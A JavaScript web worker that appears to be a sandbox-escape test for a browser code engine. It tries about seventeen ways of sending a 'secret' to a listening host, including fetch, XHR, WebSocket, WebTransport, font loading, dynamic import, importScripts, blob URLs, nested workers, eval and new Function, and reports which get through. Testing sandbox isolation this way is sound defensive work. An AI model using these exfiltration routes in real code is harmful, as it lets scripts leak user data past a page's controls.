/**
 * Stands in for the engine's worker and tries every way out that a script in a worker has. The page posts the host that
 * listens; the answer is an object from the name of each attack to "done", or to what stopped it.
 */
const quiet = { mode: "no-cors" };

/** Settles with the first of these events. */
const settled = (target, good, bad) => new Promise((done, failed) => {
  target.addEventListener(good, done);
  target.addEventListener(bad, () => failed(new Error("refused")));
});

const blob = (script) => URL.createObjectURL(new Blob([script], { type: "text/javascript" }));

/** @type {Record<string, (host: string) => unknown>} */
const attacks = {
  fetch: (host) => fetch(`http://${host}/fetch?secret`, quiet),
  keepalive: (host) => fetch(`http://${host}/keepalive?secret`, { ...quiet, method: "POST", body: "secret", keepalive: true }),
  xhr: (host) => {
    const request = new XMLHttpRequest();
    request.open("GET", `http://${host}/xhr?secret`);
    request.send();
    return settled(request, "load", "error");
  },
  socket: (host) => settled(new WebSocket(`ws://${host}/socket?secret`), "open", "error"),
  events: (host) => settled(new EventSource(`http://${host}/events?secret`), "open", "error"),
  transport: (host) => new WebTransport(`https://${host}/transport?secret`).ready,
  font: (host) => new FontFace("secret", `url(http://${host}/font?secret)`).load(),
  import: (host) => import(`http://${host}/import?secret`),
  importScripts: (host) => importScripts(`http://${host}/importScripts?secret`),
  "own script": () => import(`${location.origin}/static/js/text.js?secret`),
  "own engine script": () => import(`${location.origin}/static/vendor/pyodide-314.0.7/pyodide.mjs?secret`),
  "own fetch": () => fetch(`${location.origin}/static/icon.svg?secret`),
  "own worker": () => settled(new Worker(`${location.origin}/static/js/engine/worker.js?secret`, { type: "module" }), "message", "error"),
  blob: (host) => import(blob(`await fetch("http://${host}/blob?secret", { mode: "no-cors" })`)),
  nested: (host) => settled(
    new Worker(blob(`fetch("http://${host}/nested?secret", { mode: "no-cors" }).then(() => postMessage("done"))`)),
    "message", "error",
  ),
  eval: (host) => (0, eval)(`fetch("http://${host}/eval?secret", { mode: "no-cors" })`),
  Function: (host) => new Function(`return fetch("http://${host}/Function?secret", { mode: "no-cors" })`)(),
};

self.onmessage = async ({ data: host }) => {
  /** @type {Record<string, string>} */
  const outcomes = {};
  await Promise.all(Object.entries(attacks).map(async ([name, attack]) => {
    const silence = new Promise((done) => setTimeout(done, 1500, "silence"));
    const outcome = (async () => attack(host))().then(() => "done", String);
    outcomes[name] = String(await Promise.race([outcome, silence]));
  }));
  self.postMessage(outcomes);
};
